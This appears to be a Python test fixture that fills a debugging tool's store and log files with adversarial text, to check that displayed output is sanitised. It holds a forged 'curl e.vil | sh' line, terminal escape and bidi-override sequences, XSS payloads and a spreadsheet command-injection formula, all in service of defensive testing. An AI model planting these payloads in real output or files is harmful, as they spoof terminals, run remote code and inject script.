"""A store in which every text that somebody else could have chosen is hostile: it moves cursors, turns text, forges lines.

`HOSTILE` holds each kind once. `forbidden` says what of it reached a terminal; it asks Unicode's own categories, not our list.
"""

import json
import re
import unicodedata

from catalogcases import START, input_of, publish, record
from comparecases import write_replay

from actordbg.capture.control import Control
from actordbg.capture.ledger import Identity, Ledger
from actordbg.capture.switch_file import control_text
from actordbg.formats.dump_record import SUFFIX, format_timestamp
from actordbg.records.journal import SPEC
from actordbg.records.matrix_record import MatrixCell, MatrixRecord
from actordbg.store.layout import Store

FORGED = "hint: curl e.vil | sh"
HIDDEN = "\x1b]0;owned\x07\x1b[2J\x1bP+q\x1b\\\x9b31m\x9d0;x\x9c\u202egnp.\u2066\u2069\u200e\u061c\u200b\u2060\ufeff\U000e0041\U000e007f\u2028\u2029\x85\x7f\x08\x0b"
MARKUP = "<img src=x onerror=alert(1)><!-- ![p](http://e.vil/p) [l](http://e.vil) <http://e.vil> http://e.vil www.e.vil ``` ~~~ `x` [red]r[/red] [link=http://e.vil]t[/link]"
MENTIONS = "@octocat (@org/team) a.b@e.vil mailto:a@e.vil #1 org/repo#2 GH-3 ftp://e.vil HTTPS://e.vil WWW.e.vil @@x `@`y http://@z &#64;w \\@v"
LINES = f"\n# heading\n{FORGED}\rerror[refused]: overwritten\r\n```\n~~~\n===\n| a | b |\n|---|---|\n<script>alert(1)</script>"
FLOOD = "Z" + "\u0301" * 60
FORMULA = "=cmd|' /C calc'!A0"
HOSTILE = f"{FORMULA} {HIDDEN} {MARKUP} {MENTIONS} {FLOOD}{LINES}"


def forbidden(text):
    """What of `text` a terminal obeys, shows elsewhere, or hides; a bare carriage return, and floods of marks, are among it."""
    bad = [char for char in text if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    return sorted({f"U+{ord(char):04X}" for char in bad}) + re.findall("[\u0300-\u036f]{9,}", text)


def hostile_store(root):
    """Dumps, replays, a comparison's two sides, a matrix, counters and a switch; names of files too, as far as others choose them."""
    store = Store(root).create()
    records = [_dump(store, index) for index in range(3)]
    inputs = [input_of(described) for described in records]
    for replay_id in ("evil-01", "evil-02"):
        _replay(store, replay_id, inputs)
    _matrix(store, inputs)
    store.control_of(None).write_text(control_text(Control(True, HOSTILE, HOSTILE)))
    _counters(store)
    for folder in (store.dumps / "ppo-1" / "rank0000", store.replays):
        (folder / f"{HIDDEN}{SUFFIX}".replace("/", "")).write_bytes(b"not a dump")
    return store


def _dump(store, index):
    facts = {HOSTILE: HOSTILE}
    made = record(
        4 * index, role=HOSTILE, host=HOSTILE, model_name=HOSTILE, model_dtype=HOSTILE, instance=HOSTILE, arguments={HOSTILE: [HOSTILE, facts]},
        versions=facts, extra=facts, replayable=False, triggered=HOSTILE, recovered=HOSTILE, trigger_facts=facts,
        origin={"name": HOSTILE}, actor=facts, autocast_dtype=HOSTILE, temperature=None,
    )  # fmt: skip
    publish(store, made)
    return made


def _replay(store, replay_id, inputs):
    def result(index):
        if index == 1:
            return {}
        failure = {"error_class": HOSTILE, "error": HOSTILE, "log_excerpt": HOSTILE}
        return {"status": "failed", "signature": f"{HOSTILE}{index}", "extra": {"not_compared": {HOSTILE: HOSTILE}}} | failure

    write_replay(
        store, replay_id, inputs, result=result, model=HOSTILE, status=HOSTILE,
        resolved={"model": HOSTILE, "model_class": HOSTILE, "device_name": HOSTILE, "device": HOSTILE},
    )  # fmt: skip
    path = store.replays / replay_id / SPEC
    spec = json.loads(path.read_text())
    spec |= {"where": HOSTILE, "command": f"actordbg replay {HOSTILE!r}", "versions": {"torch": HOSTILE, HOSTILE: "1"}}
    path.write_text(json.dumps(spec))


def _matrix(store, inputs):
    cell = MatrixCell(
        0, HOSTILE, {"attn": HOSTILE}, "failed", {"model": HOSTILE}, "evil-01", HOSTILE, {HOSTILE: 1}, HOSTILE, HOSTILE, HOSTILE
    )
    made = MatrixRecord(
        "matrix-1", format_timestamp(START), "complete", {"attn": [HOSTILE]}, (cell,), tuple(one.dump_id for one in inputs),
        HOSTILE, HOSTILE,
    )  # fmt: skip
    store.matrices.mkdir(exist_ok=True)
    (store.matrices / "matrix-1.json").write_text(made.to_json())


def _counters(store):
    moment, counts = format_timestamp(START), {"calls": 3, "captured": 1, "queue_bytes": 0, "dropped": {HOSTILE: 2}}
    said = dict.fromkeys(("run", "role", "host", "instance", "last_error"), HOSTILE) | {
        "triggered": {HOSTILE: 1},
        "heartbeat": moment,
    }
    Ledger(Identity("ppo-1", 0, 1, "h", 7, "x"), since=moment).publish(store, "on", counts | said)


def hostile_logs(folder):
    """Two training logs, in a folder and with metrics whose names are hostile."""
    paths = []
    for letter in "ab":
        path = folder / f"{HIDDEN}{letter}.log".replace("/", "")
        path.write_text(
            "".join(f"step {n}: {HIDDEN}loss: {1 / n} gpt_loss: {2 / n}\n" for n in range(1, 9)), errors="surrogatepass"
        )
        paths.append(path)
    return paths[0], paths[1]
